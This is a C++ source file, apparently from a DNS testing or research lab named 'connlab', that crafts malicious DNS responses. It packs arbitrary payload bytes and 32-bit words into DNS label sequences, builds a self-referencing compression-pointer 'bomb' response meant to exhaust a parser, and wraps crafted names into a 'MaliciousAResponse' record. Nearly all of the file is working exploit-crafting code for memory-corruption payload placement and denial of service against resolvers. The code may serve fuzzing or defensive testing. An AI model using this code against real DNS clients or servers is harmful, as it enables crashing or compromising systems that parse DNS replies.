#include "src/dns/craft.hpp"

#include <algorithm>

namespace connlab::dns {

util::Status PayloadImage::SetBytes(std::size_t offset, util::ByteSpan data) {
  if (offset + data.size() > bytes_.size()) {
    return util::OutOfRange("payload bytes past image end");
  }
  for (std::size_t i = 0; i < data.size(); ++i) {
    bytes_[offset + i] = data[i];
    required_[offset + i] = true;
  }
  return util::OkStatus();
}

util::Status PayloadImage::SetWord(std::size_t offset, std::uint32_t value) {
  const std::uint8_t raw[4] = {
      static_cast<std::uint8_t>(value & 0xFF),
      static_cast<std::uint8_t>((value >> 8) & 0xFF),
      static_cast<std::uint8_t>((value >> 16) & 0xFF),
      static_cast<std::uint8_t>((value >> 24) & 0xFF)};
  return SetBytes(offset, util::ByteSpan(raw, 4));
}

util::Result<LabelSeq> CutIntoLabels(const PayloadImage& image) {
  const std::size_t size = image.size();
  if (size < 2) return util::InvalidArgument("payload image too small");
  if (image.required(0)) {
    return util::ResourceExhausted(
        "image byte 0 is required but always holds a label length");
  }

  // Dynamic program, right to left: can_finish[p] = a label starting with
  // its length byte at position p can reach exactly `size`.
  // From cut p the next cut is q = p + 1 + L, L in [1, 63]; q must be
  // `size` (done; terminator 0 lands at name[size]) or a don't-care byte.
  std::vector<std::int8_t> can_finish(size + 1, 0);
  std::vector<std::uint8_t> step(size + 1, 0);  // chosen label length at p
  can_finish[size] = 1;
  for (std::size_t p = size; p-- > 0;) {
    if (p != 0 && image.required(p)) continue;  // cannot cut here
    // Prefer the longest label (fewest boundaries).
    const std::size_t max_len = std::min<std::size_t>(kMaxLabelLen, size - p - 1);
    for (std::size_t len = max_len; len >= 1; --len) {
      const std::size_t q = p + 1 + len;
      if (can_finish[q] != 0) {
        can_finish[p] = 1;
        step[p] = static_cast<std::uint8_t>(len);
        break;
      }
      if (len == 1) break;
    }
  }
  if (can_finish[0] == 0) {
    return util::ResourceExhausted(
        "required bytes too dense: no label cut available in some 64-byte "
        "window");
  }

  LabelSeq labels;
  std::size_t p = 0;
  while (p < size) {
    const std::size_t len = step[p];
    util::Bytes content;
    content.reserve(len);
    for (std::size_t i = 0; i < len; ++i) {
      content.push_back(image.at(p + 1 + i));
    }
    labels.push_back(std::move(content));
    p += 1 + len;
  }
  return labels;
}

util::Bytes ExpandLabels(const LabelSeq& labels) {
  util::Bytes out;
  for (const util::Bytes& label : labels) {
    out.push_back(static_cast<std::uint8_t>(label.size()));
    out.insert(out.end(), label.begin(), label.end());
  }
  out.push_back(0);
  return out;
}

util::Result<LabelSeq> JunkLabels(std::size_t total_len, std::uint8_t filler) {
  PayloadImage image(total_len, filler);
  return CutIntoLabels(image);
}

util::Result<util::Bytes> CompressionBombResponse(const Message& query,
                                                  int run_labels) {
  if (run_labels < 1 || run_labels > 60) {
    return util::InvalidArgument("run_labels out of range");
  }
  if (query.questions.size() != 1) {
    return util::InvalidArgument("single-question query required");
  }
  util::ByteWriter w;
  w.WriteU16BE(query.header.id);
  w.WriteU16BE(0x8180);  // QR | RD | RA
  w.WriteU16BE(1);       // qdcount
  w.WriteU16BE(1);       // ancount
  w.WriteU16BE(0);
  w.WriteU16BE(0);
  CONNLAB_RETURN_IF_ERROR(EncodeName(w, query.questions[0].name));
  w.WriteU16BE(static_cast<std::uint16_t>(query.questions[0].type));
  w.WriteU16BE(static_cast<std::uint16_t>(query.questions[0].klass));

  // The answer's owner name: `run_labels` maximal labels followed by a
  // pointer back to the run's own start. Every hop through the pointer
  // re-expands the whole run; the hop budget, not the wire size, is the
  // only brake.
  const std::size_t run_start = w.size();
  if (run_start > 0x3FFF) return util::Internal("offset exceeds pointer range");
  for (int i = 0; i < run_labels; ++i) {
    w.WriteU8(static_cast<std::uint8_t>(kMaxLabelLen));
    for (std::size_t b = 0; b < kMaxLabelLen; ++b) w.WriteU8('A');
  }
  w.WriteU8(static_cast<std::uint8_t>(kCompressionFlags | (run_start >> 8)));
  w.WriteU8(static_cast<std::uint8_t>(run_start & 0xFF));

  // RR fixed fields + 4-byte A rdata.
  w.WriteU16BE(static_cast<std::uint16_t>(Type::kA));
  w.WriteU16BE(static_cast<std::uint16_t>(Class::kIN));
  w.WriteU32BE(120);
  w.WriteU16BE(4);
  w.WriteBytes(util::Bytes{10, 66, 66, 66});
  return std::move(w).Take();
}

Message MaliciousAResponse(const Message& query, LabelSeq name_labels,
                           const std::string& answer_ip) {
  Message response = Message::ResponseFor(query);
  ResourceRecord rr;
  rr.raw_name = std::move(name_labels);
  rr.type = Type::kA;
  rr.klass = Class::kIN;
  rr.ttl = 120;
  auto ip = ParseIPv4(answer_ip);
  rr.rdata = ip.ok() ? ip.value() : util::Bytes{10, 66, 66, 66};
  response.answers.push_back(std::move(rr));
  return response;
}

}  // namespace connlab::dns
